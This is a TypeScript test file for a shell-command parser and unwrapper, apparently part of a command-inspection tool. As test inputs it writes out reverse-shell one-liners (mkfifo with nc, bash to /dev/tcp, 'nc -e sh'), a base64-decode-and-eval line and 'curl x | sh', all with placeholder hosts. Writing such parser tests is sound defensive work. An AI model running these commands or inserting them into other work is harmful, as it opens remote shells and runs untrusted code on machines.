import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { commandsOf, pipelinesOf, shellScript, unwrap } from './command.js';
import { parseScript } from './shell.js';

describe('parseScript', () => {
  test('splits commands and keeps redirections as words', () => {
    const cmds = parseScript('rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc h 4 >/tmp/f');
    expect(cmds.map((c) => c.words[0])).toEqual(['rm', 'mkfifo', 'cat', '/bin/sh', 'nc']);
    expect(cmds[3]!.words).toEqual(['/bin/sh', '-i', '2>&1']);
    expect(cmds.map((c) => c.next)).toEqual([';', ';', '|', '|', 'end']);
  });

  test('removes quotes and parses substitutions as commands', () => {
    const cmds = parseScript(`eval "$(echo 'aGk=' | base64 -d)" && echo "a b"`);
    expect(cmds[0]!.words[0]).toBe('eval');
    expect(cmds[1]!.words).toEqual(['echo', 'a b']);
    expect(cmds.some((c) => c.words[0] === 'base64' && c.words[1] === '-d')).toBe(true);
  });

  test('treats >& and &> as redirections, & and && as operators', () => {
    const cmds = parseScript('bash -i >& /dev/tcp/h/1 0>&1 & sleep 1 && ls &>/dev/null');
    expect(cmds[0]!.words).toEqual(['bash', '-i', '>&', '/dev/tcp/h/1', '0>&1']);
    expect(cmds[0]!.next).toBe('&');
    expect(cmds[1]!.next).toBe('&&');
  });

  test('never throws on random text', () => {
    fc.assert(
      fc.property(fc.string({ maxLength: 300 }), (s) => {
        expect(Array.isArray(parseScript(s))).toBe(true);
      }),
      { numRuns: 500 },
    );
  });
});

describe('commands', () => {
  test('unwrap looks through env, sudo, nohup, timeout and busybox', () => {
    expect(
      unwrap([
        'env',
        'A=1',
        'sudo',
        '-u',
        'root',
        'nohup',
        'timeout',
        '5',
        'busybox',
        'nc',
        '-e',
        'sh',
      ]),
    ).toEqual({
      name: 'nc',
      args: ['-e', 'sh'],
    });
    expect(unwrap(['X=1'])).toBeUndefined();
  });

  test('shellScript finds -c, -lc and -ec scripts only', () => {
    expect(shellScript('bash', ['-lc', 'ls'])).toBe('ls');
    expect(shellScript('sh', ['-e', '-c', 'ls'])).toBe('ls');
    expect(shellScript('bash', ['build.sh'])).toBeUndefined();
    expect(shellScript('python3', ['-c', 'x'])).toBeUndefined();
  });

  test('commandsOf includes nested sh -c scripts', () => {
    const names = commandsOf(['bash', '-c', `sh -c "curl x | sh"`]).map((c) => c.name);
    expect(names).toEqual(['bash', 'sh', 'curl', 'sh']);
    const pipes = pipelinesOf(commandsOf(['bash', '-c', 'a | b; c']));
    expect(pipes.map((p) => p.map((c) => c.name))).toEqual([['bash'], ['a', 'b'], ['c']]);
  });
});
